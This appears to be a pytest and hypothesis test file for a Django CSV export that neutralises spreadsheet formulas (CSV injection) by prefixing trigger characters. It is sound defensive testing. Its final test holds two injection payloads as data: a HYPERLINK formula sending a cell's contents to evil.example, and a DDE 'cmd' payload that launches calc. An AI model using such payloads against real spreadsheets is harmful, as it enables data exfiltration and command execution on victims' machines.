"""Spreadsheet-formula neutralisation (OWASP "CSV injection") and the CSV line writer."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recommendations.export.columns import FORMULA_TRIGGERS, neutralise, restore
from recommendations.export.writers import csv_line

from . import factories
from .export_data import csv_rows

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"]
# Any text at all, with the characters that matter to formulas and to CSV often at the front.
texts = st.one_of(
    st.text(),
    st.builds(lambda head, tail: head + tail, st.sampled_from([*TRIGGERS, "'", '"', ",", " "]), st.text()),
)
cells = st.lists(st.one_of(texts, st.integers(min_value=0, max_value=2**53)), min_size=2, max_size=15)


def test_the_triggers_are_the_owasp_list_and_the_apostrophe():
    assert set(FORMULA_TRIGGERS) == {*TRIGGERS, "'"}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_cell_starting_with_a_trigger_is_prefixed_with_an_apostrophe(trigger):
    assert neutralise(trigger + "SUM(A1:A9)") == "'" + trigger + "SUM(A1:A9)"


@pytest.mark.parametrize("value", ["", "Plain text", " =leading space is not a formula", "1+1", "a=b", "ÿ=x"])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def test_a_leading_apostrophe_is_doubled_so_restore_is_exact():
    assert neutralise("'quoted") == "''quoted"
    assert restore("''quoted") == "'quoted"


@given(texts)
def test_no_neutralised_cell_starts_with_a_trigger(value):
    neutralised = neutralise(value)
    assert not neutralised or neutralised[0] not in TRIGGERS
    assert neutralised in (value, "'" + value)


@given(texts)
def test_restore_undoes_neutralise_for_every_string(value):
    assert restore(neutralise(value)) == value


@given(st.lists(texts, min_size=2, max_size=15))
def test_round_trip_through_pythons_csv_module(values):
    """Neutralised cells written as a CSV line read back with csv.reader, restored, equal the input."""
    line = csv_line(values)
    (read,) = list(csv.reader(io.StringIO(line, newline="")))
    assert [restore(cell) for cell in read] == values
    assert not any(cell and cell[0] in TRIGGERS for cell in read)


@given(cells)
def test_csv_line_writes_what_csv_writer_writes(values):
    """csv_line() is csv.writer (RFC 4180, minimal quoting, LF) over the neutralised cells."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([neutralise(v) if isinstance(v, str) else v for v in values])
    assert csv_line(values) == buffer.getvalue()


def test_list_cells_are_joined_then_neutralised():
    assert csv_line([["-one", "two"], []]) == "'-one; two,\n"


@pytest.mark.django_db
def test_a_formula_in_the_data_is_neutralised_in_the_exported_file(client):
    rt = factories.roundtable("3.1", title="@Roundtable")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rec = factories.recommendation(rt, text=formula, source_excerpt="+cmd|' /C calc'!A0")
    rows = csv_rows(client.get("/recommendations/export.csv"))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["id"] == str(rec.pk)
    assert cells["text"] == "'" + formula
    assert cells["source_excerpt"] == "'+cmd|' /C calc'!A0"
    assert cells["roundtable_title"] == "'@Roundtable"
    for row in rows:
        assert not any(cell and cell[0] in TRIGGERS for cell in row)
